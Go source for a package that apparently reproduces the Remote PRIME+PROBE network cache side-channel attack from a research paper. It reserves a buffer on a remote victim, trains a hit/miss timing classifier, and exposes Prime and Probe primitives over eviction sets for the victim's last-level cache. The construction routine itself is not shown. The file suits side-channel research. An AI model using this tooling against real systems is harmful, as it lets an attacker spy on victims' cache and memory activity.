// Package rpp implements Remote PRIME+PROBE: constructing the
// colored family of minimal eviction sets for a victim LLC, using only a
// timed cache/read oracle, and the Prime/Probe primitives the online
// tracker drives against that table afterward.
package rpp

import (
	"context"
	"fmt"
	"math/rand"
	"time"

	"github.com/nevenoomo/netcat/pkg/cacheparams"
	"github.com/nevenoomo/netcat/pkg/timing"
	"github.com/nevenoomo/netcat/pkg/transport"
)

// Training sample counts from §4.2.1: the classifier is seeded with
// timingsInitFill samples before the first color is attempted, and
// refreshed with timingRefreshFill samples before every subsequent one.
const (
	timingsInitFill    = 150
	timingRefreshFill  = 50
	refreshSkipBelow   = 500
	retryCount         = 10
	uniquenessWitnesses = 5
)

// SetCode identifies a single cache set: a page color and the colored
// index within that color's sibling sets.
type SetCode struct {
	Color        int
	ColoredIndex int
}

// EvictionSet is an ordered collection of exactly ReachableLines addresses
// that are mutually congruent modulo the LLC set index.
type EvictionSet []transport.Address

// ProbeResult carries whether a probe observed any miss (activation) and
// the raw per-address latencies behind that verdict.
type ProbeResult struct {
	Activated  bool
	Latencies  []int64
}

// ColoredSets is the two-level table RPP construction produces: outer
// index is color, inner index is colored set code.
type ColoredSets [][]EvictionSet

// Engine orchestrates classifier training and eviction-set construction,
// and serves as the Prime/Probe oracle the online tracker consumes.
type Engine struct {
	conn    transport.CacheConnector
	params  cacheparams.Params
	derived cacheparams.Derived
	clf     *timing.Classifier
	sets    ColoredSets
	quiet   bool
	rng     *rand.Rand

	onColor  func(built, total int)
	onSample func(kind timing.Kind)
}

// Option configures Engine construction.
type Option func(*Engine)

// WithSeed fixes the engine's internal randomness, for reproducible
// construction in tests.
func WithSeed(seed int64) Option {
	return func(e *Engine) { e.rng = rand.New(rand.NewSource(seed)) }
}

// WithProgress registers a callback invoked after each color finishes
// construction, for a CLI progress bar. Never called when quiet.
func WithProgress(fn func(built, total int)) Option {
	return func(e *Engine) { e.onColor = fn }
}

// WithOnSample registers a callback invoked once per classifier training
// sample recorded, for external instrumentation (e.g. a metrics counter).
func WithOnSample(fn func(kind timing.Kind)) Option {
	return func(e *Engine) { e.onSample = fn }
}

// New builds the full ColoredSets table, blocking until every color has
// been profiled or construction fails permanently.
func New(ctx context.Context, conn transport.CacheConnector, params cacheparams.Params, quiet bool, opts ...Option) (*Engine, error) {
	clf, err := timing.New()
	if err != nil {
		return nil, fmt.Errorf("rpp: creating classifier: %w", err)
	}

	e := &Engine{
		conn:    conn,
		params:  params,
		derived: params.Derive(),
		clf:     clf,
		quiet:   quiet,
		rng:     rand.New(rand.NewSource(time.Now().UnixNano())),
	}
	for _, opt := range opts {
		opt(e)
	}
	if quiet {
		e.onColor = nil
	}

	if err := e.conn.Reserve(ctx, e.derived.VBuf); err != nil {
		return nil, fmt.Errorf("rpp: reserving remote buffer: %w", err)
	}

	if err := e.build(ctx); err != nil {
		return nil, err
	}
	return e, nil
}

// Prime issues cache_all over every address in sc's eviction set.
func (e *Engine) Prime(ctx context.Context, sc SetCode) error {
	set, err := e.setAt(sc)
	if err != nil {
		return err
	}
	if err := e.conn.CacheAll(ctx, []transport.Address(set)); err != nil {
		return fmt.Errorf("rpp: priming %+v: %w", sc, err)
	}
	return nil
}

// Probe times every address in sc's eviction set, reporting activation if
// any single access classifies as a miss.
func (e *Engine) Probe(ctx context.Context, sc SetCode) (ProbeResult, error) {
	set, err := e.setAt(sc)
	if err != nil {
		return ProbeResult{}, err
	}

	lats := make([]int64, len(set))
	activated := false
	for i, a := range set {
		nanos, err := e.conn.TimeAccess(ctx, a)
		if err != nil {
			return ProbeResult{}, fmt.Errorf("rpp: probing %+v: %w", sc, err)
		}
		lats[i] = nanos
		if e.clf.IsMiss(nanos) {
			activated = true
		}
	}
	return ProbeResult{Activated: activated, Latencies: lats}, nil
}

// PrimeAll primes every SetCode in order.
func (e *Engine) PrimeAll(ctx context.Context, codes []SetCode) error {
	for _, sc := range codes {
		if err := e.Prime(ctx, sc); err != nil {
			return err
		}
	}
	return nil
}

// ProbeAll probes every SetCode in order, returning one ProbeResult per
// input SetCode in the same order.
func (e *Engine) ProbeAll(ctx context.Context, codes []SetCode) ([]ProbeResult, error) {
	out := make([]ProbeResult, len(codes))
	for i, sc := range codes {
		r, err := e.Probe(ctx, sc)
		if err != nil {
			return nil, err
		}
		out[i] = r
	}
	return out, nil
}

// ColorsLen returns the number of colors successfully profiled.
func (e *Engine) ColorsLen() int {
	return len(e.sets)
}

// ColorLen returns the number of colored sets built for color c.
func (e *Engine) ColorLen(c int) int {
	if c < 0 || c >= len(e.sets) {
		return 0
	}
	return len(e.sets[c])
}

// Colors returns the color indices successfully profiled, in order.
func (e *Engine) Colors() []int {
	out := make([]int, len(e.sets))
	for i := range out {
		out[i] = i
	}
	return out
}

// ColoredIndices returns the colored indices available for color c.
func (e *Engine) ColoredIndices(c int) []int {
	n := e.ColorLen(c)
	out := make([]int, n)
	for i := range out {
		out[i] = i
	}
	return out
}

func (e *Engine) setAt(sc SetCode) (EvictionSet, error) {
	if sc.Color < 0 || sc.Color >= len(e.sets) {
		return nil, fmt.Errorf("rpp: color %d out of range [0,%d)", sc.Color, len(e.sets))
	}
	row := e.sets[sc.Color]
	if sc.ColoredIndex < 0 || sc.ColoredIndex >= len(row) {
		return nil, fmt.Errorf("rpp: colored index %d out of range [0,%d) for color %d", sc.ColoredIndex, len(row), sc.Color)
	}
	return row[sc.ColoredIndex], nil
}
